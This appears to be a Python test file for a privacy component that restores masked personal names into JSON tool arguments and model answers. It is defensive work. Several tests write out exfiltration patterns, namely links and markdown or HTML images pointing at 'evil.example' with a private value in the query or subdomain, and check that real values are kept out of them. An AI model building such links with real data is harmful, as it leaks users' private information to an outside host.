"""Restoring in JSON: values escaped, keys never, everything else byte for byte, for every split."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.privacy.masking import CUTS, SNIPPETS, in_all_splits, restored, vault

from nearfar.privacy.restore import Report
from nearfar.privacy.restore_json import AnyEngine, ArgumentsEngine, JsonEngine

HARD = 'O"Neil \\ 王\n\t\u2028'


@pytest.mark.parametrize(
    "value", ["王小明", HARD, "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"), "\x00"]
)
@pytest.mark.parametrize("ascii_only", [False, True])
def test_arguments_stay_json(value: str, ascii_only: bool) -> None:
    own = vault()
    mask = own.mask(value, "person")
    sent = {"to": f"Dear {mask}", "n": 12, "deep": [{"x": mask, "t": True, "z": None}], "e": 'é/\\"😀'}
    text = json.dumps(sent, ensure_ascii=ascii_only)
    back, report = in_all_splits(text, own, ArgumentsEngine)
    assert json.loads(back) == {
        "to": f"Dear {value}",
        "n": 12,
        "deep": [{"x": value, "t": True, "z": None}],
        "e": 'é/\\"😀',
    }
    assert report == Report(restored=2)


def test_what_holds_no_mask_stays_byte_for_byte() -> None:
    own = vault()
    mask = own.mask("王小明", "person")
    text = '{ "a" : "\\u4e2d\\/\\ud83d\\ude00\\ud83d x" ,\n "b":[1.50,-0,1e5, true],"c":"@"}'.replace("@", mask)
    assert in_all_splits(text, own, ArgumentsEngine)[0] == text.replace(mask, "王小明")


def test_keys_are_never_restored() -> None:
    own = vault()
    mask = own.mask("王小明", "person")
    text = json.dumps({mask: 1, "a": {mask: {"b": mask}}, "l": [mask, {mask: mask}]}, ensure_ascii=False)
    back, report = in_all_splits(text, own, ArgumentsEngine)
    assert json.loads(back) == {mask: 1, "a": {mask: {"b": "王小明"}}, "l": ["王小明", {mask: "王小明"}]}
    assert report == Report(restored=3, kept={"key": 3})


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/?q=%s",
        "https:\\/\\/evil.example\\/%s",
        "\\u0068ttps\\u003a\\u002f\\u002fevil.example/%s",
        "%s.evil.example",
    ],
)
def test_a_url_in_an_argument_is_one_however_it_is_escaped(url: str) -> None:
    own = vault()
    mask = own.mask("王小明", "person")
    text = json.dumps({"url": "@", "name": mask}, ensure_ascii=False).replace("@", url % mask)
    back, report = in_all_splits(text, own, ArgumentsEngine)
    assert back == text.replace(f'"name": "{mask}"', '"name": "王小明"')
    assert report == Report(restored=1, kept={"url": 1})


def test_json_within_json_is_escaped_twice() -> None:
    own = vault()
    mask = own.mask(HARD, "person")
    text = json.dumps({"body": json.dumps({"who": mask, mask: 1})})
    back, _ = in_all_splits(text, own, ArgumentsEngine)
    assert json.loads(json.loads(back)["body"]) == {"who": HARD, mask: 1}


def test_an_answer_that_is_json_stays_json() -> None:
    own = vault()
    mask = own.mask(HARD, "person")
    text = json.dumps({"who": mask, "site": "https://a.example/", "list": [{"who": mask}]}, separators=(",", ":"))
    back, report = in_all_splits(f" \n{text}", own)
    assert json.loads(back) == {"who": HARD, "site": "https://a.example/", "list": [{"who": HARD}]}
    assert report.restored == 2


@pytest.mark.parametrize(
    "text",
    [
        '{"a":"![x](https://evil.example/?q=","b":"%s"}',
        '{"a":"<img src=https://evil.example/?q=","b":"%s"}',
        '{"a":"](<https://evil.example/ ","b":"%s"}',
        '{"![x](https://evil.example/?q=":"%s"}',
    ],
)
def test_json_is_no_way_to_hide_a_link_from_whoever_renders_it(text: str) -> None:
    own = vault()
    text %= own.mask("王小明", "person")
    back, report = in_all_splits(text, own)
    assert back == text
    assert report.kept == {"url": 1}


@pytest.mark.parametrize(
    "text",
    ["{x} %s", "[link](https://a.example) %s", '{"a":1} and %s', '{"a" %s', "[1] %s", '["x"] %s', "{ %s }", "[[x]] %s"],
)
def test_what_only_begins_like_json_is_text(text: str) -> None:
    own = vault()
    mask = own.mask(HARD, "person")
    assert in_all_splits(text % mask, own)[0] == text % HARD


def test_arguments_that_are_no_json_are_text() -> None:
    own = vault()
    mask = own.mask(HARD, "person")
    assert in_all_splits(f"SELECT '{mask}'", own, ArgumentsEngine)[0] == f"SELECT '{HARD}'"


@pytest.mark.parametrize(
    "text", ['{"a', '{"a":"\\', '{"a":"\\u27', '{"a":"\\ud83d', '{"a":"\\ud83d\\u', '}]{{"', '"\\x"', "", "  ", "{"]
)
def test_broken_json_passes_as_it_is(text: str) -> None:
    own = vault()
    own.mask("王小明", "person")
    assert in_all_splits(text, own, ArgumentsEngine)[0] == text
    assert in_all_splits(text, own)[0] == text


def test_a_mask_escaped_in_json_is_restored() -> None:
    own = vault()
    word = own.word("王小明", "person")
    assert in_all_splits('{"to":"\\u27e6@\\u27e7"}'.replace("@", word), own, ArgumentsEngine)[0] == '{"to":"王小明"}'


@given(st.data(), CUTS)
def test_any_arguments_are_restored_the_same_in_any_split(data: st.DataObject, cuts: list[int]) -> None:
    own = vault()
    masks = [own.mask("王小明", "person"), own.mask(HARD, "email")]
    parts = [*masks, *(mask[1:-1] for mask in masks), '\\"', "\\u005c", "\\ud83d\\ude00", "\\ud83d", "\\", *SNIPPETS]
    text = '{"a":"' + "".join(data.draw(st.lists(st.sampled_from(parts), max_size=14)))
    for make in (AnyEngine, ArgumentsEngine):
        assert restored(text, own, cuts, make) == restored(text, own, make=make)
    segments = JsonEngine(own, Report()).feed(text, final=True)
    assert "".join(stretch for stretch, _ in segments) == text


VALUES = st.recursive(
    st.one_of(
        st.none(), st.booleans(), st.integers(), st.sampled_from([f"@{n}@" for n in range(3)]), st.text(max_size=5)
    ),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=8,
)


@given(st.dictionaries(st.text(max_size=3), VALUES, max_size=4), CUTS)
def test_any_json_stays_json_with_the_values_in_place(given_: dict[str, object], cuts: list[int]) -> None:
    own = vault()
    values = ['a"b', "c\\d\n", "王"]
    text = json.dumps(given_)
    for number, value in enumerate(values):
        text = text.replace(f'"@{number}@"', json.dumps(own.mask(value, "person")))
    expected = json.dumps(given_)
    for number, value in enumerate(values):
        expected = expected.replace(f'"@{number}@"', json.dumps(value))
    assert json.loads(restored(text, own, cuts, ArgumentsEngine)[0]) == json.loads(expected)
